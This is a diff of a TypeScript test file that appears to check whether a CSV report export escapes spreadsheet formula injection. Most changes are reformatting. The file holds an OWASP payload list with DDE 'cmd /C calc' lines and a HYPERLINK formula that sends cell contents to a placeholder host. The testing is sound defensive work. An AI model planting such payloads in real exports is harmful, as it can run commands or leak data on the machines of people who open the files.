@@ -19,7 +19,7 @@ const OWASP = [
   "-1+1|cmd|' /C calc'!A0",
   '=HYPERLINK("http://example.invalid?x="&A1&A2,"Error: please click for further information")',
   '=1+2";=1+2',
-  "=1+2'\" ;,=1+2",
+  '=1+2\'" ;,=1+2',
   '\t=1+2',
   '\r=1+2',
   "\n-3+3+cmd|' /C calc'!A0",
@@ -39,7 +39,8 @@ beforeAll(async () => {
 }, 120_000);
 
 const JULY = { from: '2027-07-01', to: '2027-07-31' };
-const csvOf = async (copy: NamesScenario['z'], req: Parameters<NamesScenario['z']['call']>[1] & object) => Buffer.from((await copy.call('reports.file', req as never)).base64, 'base64').toString('utf8');
+const csvOf = async (copy: NamesScenario['z'], req: Parameters<NamesScenario['z']['call']>[1] & object) =>
+  Buffer.from((await copy.call('reports.file', req as never)).base64, 'base64').toString('utf8');
 
 describe('CSV fields by type', () => {
   it('writes every OWASP payload as text behind an apostrophe, and Regie’s numbers bare', () => {
@@ -57,7 +58,10 @@ describe('CSV fields by type', () => {
     for (const row of [...settlement, ...hours]) for (const field of row) expect(startsFormula(field), `field ${JSON.stringify(field)}`).toBe(false);
     const header = settlement.findIndex((r) => r[0] === 'Begindatum');
     const col = (name: string) => settlement[header]!.indexOf(name);
-    const lines = settlement.slice(header + 1, settlement.findIndex((r, i) => i > header && r.length === 1));
+    const lines = settlement.slice(
+      header + 1,
+      settlement.findIndex((r, i) => i > header && r.length === 1),
+    );
     expect(lines).toHaveLength(11);
     const officers = lines.map((r) => r[col('Handhaver')]!);
     for (const n of NAMES) expect(officers).toContain(n);
